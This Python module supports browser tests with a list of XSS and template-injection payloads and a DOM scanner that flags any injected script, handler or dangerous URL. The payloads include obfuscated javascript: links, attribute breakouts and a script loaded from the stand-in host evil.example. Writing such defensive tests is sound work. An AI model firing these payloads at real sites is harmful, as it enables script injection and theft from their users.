"""Hostile text for the browser tests: script-injection payloads and the DOM checks that prove none of them ran."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from playwright.async_api import Page


@dataclass(frozen=True)
class Payload:
    """One kind of attack. `in_markdown` is what a Markdown body legitimately shows instead of the raw text
    (CommonMark decodes entities and turns a safe link into its text); None: the raw text itself."""

    kind: str
    text: str
    in_markdown: str | None = None

    def shown(self, *, markdown: bool = False) -> str:
        """The visible text a reader must see, whitespace collapsed (titles and names collapse it too)."""
        return normalize(self.in_markdown if markdown and self.in_markdown is not None else self.text)


def normalize(text: str) -> str:
    return " ".join(text.split())


# Every payload fits in a display name (80 characters), and each has its own number so a leak is traceable.
DISPLAY_NAME_MAX = 80
PAYLOADS = [
    Payload("script tag", "<script>alert('xss-1')</script>"),
    Payload("script with a src", '<script src="https://evil.example/x2.js"></script>'),
    Payload("img onerror", "<img src=x onerror=alert('xss-3')>"),
    Payload("svg onload", "<svg onload=alert('xss-4')>"),
    Payload("script inside svg", "<svg><script>alert('xss-5')</script></svg>"),
    Payload("body onload", "<body onload=alert('xss-6')>"),
    Payload("iframe with a javascript: src", "<iframe src=\"javascript:alert('xss-7')\"></iframe>"),
    Payload("iframe srcdoc", '<iframe srcdoc="<script>alert(8)</script>"></iframe>'),
    Payload("object with a data: URL", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg=">'),
    Payload("embed", '<embed src="javascript:alert(10)">'),
    Payload("HTML javascript: link", '<a href="javascript:alert(11)">click me 11</a>'),
    Payload("Markdown javascript: link", "[click me 12](javascript:alert(12))"),
    Payload("Markdown data: link", "[click me 13](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=)"),
    Payload("Markdown link with an entity-hidden scheme", "[click me 14](jav&#x09;ascript:alert(14))", "click me 14"),
    Payload("Markdown image with a javascript: URL", "![alt 15](javascript:alert(15))"),
    Payload(
        "Markdown link title breakout",
        '[click me 16](https://example.org "t\\" onmouseover=\\"alert(16)")',
        "click me 16",
    ),
    Payload("Markdown autolink to javascript:", "<javascript:alert(17)>"),
    Payload("Markdown mixed-case scheme", "[click me 18](JaVaScRiPt:alert(18))"),
    Payload("Markdown zero-width scheme", "[click me 19](java\u200bscript:alert(19))", "click me 19"),
    Payload("broken nested tags", "<scr<script>ipt>alert(20)</scr</script>ipt>"),
    Payload("unclosed tag", "<img src=x onerror=alert(21)//"),
    Payload("double-quote attribute breakout", '"><script>alert(22)</script>'),
    Payload("single-quote attribute breakout", "'><img src=x onerror=alert(23)>"),
    Payload("textarea breakout", "</textarea><script>alert(24)</script>"),
    Payload("comment breakout", "--><script>alert(25)</script><!--"),
    Payload("style expression", '<p style="width:expression(alert(26))">26</p>'),
    Payload("style tag", "<style>*{background:url(javascript:alert(27))}</style>"),
    Payload("template injection", "{{ 7 * 7 }} ${ 7 * 7 } #{ 7 * 7 } <%= 7 * 7 %> {% print(7 * 7) %}"),
    Payload("template object access", "{{ config }} {{ request }} {{ self }} {{ lipsum }}"),
    Payload("entity-encoded script", "&lt;script&gt;alert(30)&lt;/script&gt;", "<script>alert(30)</script>"),
    Payload(
        "entity-encoded javascript: href",
        '<a href="&#106;avascript:alert(31)">x31</a>',
        '<a href="javascript:alert(31)">x31</a>',
    ),
    Payload("right-to-left override", "\u202egnp.exe\u202c <scr\u0131pt>alert(32)</scr\u0131pt>"),
    Payload("fullwidth brackets", "\uff1cscript\uff1ealert(33)\uff1c/script\uff1e"),
    Payload("MathML namespace confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(34)>"),
    Payload("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(35)">'),
    Payload("form with a javascript: action", '<form action="javascript:alert(36)"><button>go 36</button></form>'),
    Payload("base href", '<base href="https://evil.example/">'),
    Payload("vbscript: link", '<a href="vbscript:msgbox(38)">x38</a>'),
]
assert all(len(payload.text) <= DISPLAY_NAME_MAX for payload in PAYLOADS)

# Run in the page: everything an injection could have left behind. Returns a list of findings (empty: clean).
_FIND_INJECTIONS = r"""
() => {
  const found = [];
  const describe = (el) => el.outerHTML.slice(0, 160);
  // The site's own scripts are files under /static/js/ on its own origin; anything else is foreign.
  for (const el of document.querySelectorAll("script")) {
    const src = el.getAttribute("src");
    const url = src ? new URL(src, location.href) : null;
    if (!url || url.origin !== location.origin || !/^\/static\/js\/[a-z0-9_-]+\.js$/.test(url.pathname)) {
      found.push("foreign script: " + describe(el));
    }
  }
  for (const el of document.querySelectorAll("iframe, frame, frameset, object, embed, applet, svg, math, base, img, video, audio, source, style, meta[http-equiv], link:not([rel=stylesheet]):not([rel=icon])")) {
    found.push("injected element: " + describe(el));
  }
  for (const el of document.querySelectorAll("*")) {
    for (const attribute of el.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith("on")) found.push("event handler attribute: " + describe(el));
      if (name === "style" || name === "srcdoc") found.push(name + " attribute: " + describe(el));
      if (["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"].includes(name)) {
        const value = attribute.value.replace(/[\u0000-\u0020\u200b]/g, "").toLowerCase();
        let scheme = "";
        try { scheme = new URL(attribute.value, location.href).protocol; } catch (e) { scheme = "unparsable:"; }
        if (value.startsWith("javascript:") || value.startsWith("data:") || value.startsWith("vbscript:")
            || !["http:", "https:", "mailto:"].includes(scheme)) {
          found.push("dangerous URL in " + name + ": " + describe(el));
        }
      }
    }
  }
  for (const form of document.forms) {
    const action = new URL(form.getAttribute("action") || location.href, location.href);
    if (action.origin !== location.origin) found.push("form posting elsewhere: " + describe(form));
  }
  return found;
}
"""


async def injections(page: Page) -> list[str]:
    """Anything in the page's DOM that member text should never have produced."""
    found: list[Any] = await page.evaluate(_FIND_INJECTIONS)
    return [str(item) for item in found]


async def visible_text(page: Page, selector: str = "main") -> str:
    """The text a reader sees in that part of the page, whitespace collapsed."""
    return normalize(await page.locator(selector).first.inner_text())
